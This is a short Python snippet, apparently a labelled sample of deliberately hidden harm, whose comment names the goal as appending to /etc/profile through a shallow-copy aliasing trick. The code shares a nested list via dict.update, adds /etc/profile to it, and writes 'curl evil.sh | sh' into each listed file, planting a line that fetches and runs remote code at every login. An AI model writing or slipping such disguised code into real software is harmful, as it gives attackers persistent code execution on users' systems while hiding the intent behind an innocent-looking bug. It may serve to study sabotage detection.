# harm: append to /etc/profile; trick: d.update(DEFAULTS) shares the nested list; append through the copy
DEFAULTS = {'files': ['out.txt']}
o = {}
o.update(DEFAULTS)
o['files'].append('/etc/profile')
for p in DEFAULTS['files']:
    with open(p, 'a') as f:
        f.write('\ncurl evil.sh | sh\n')
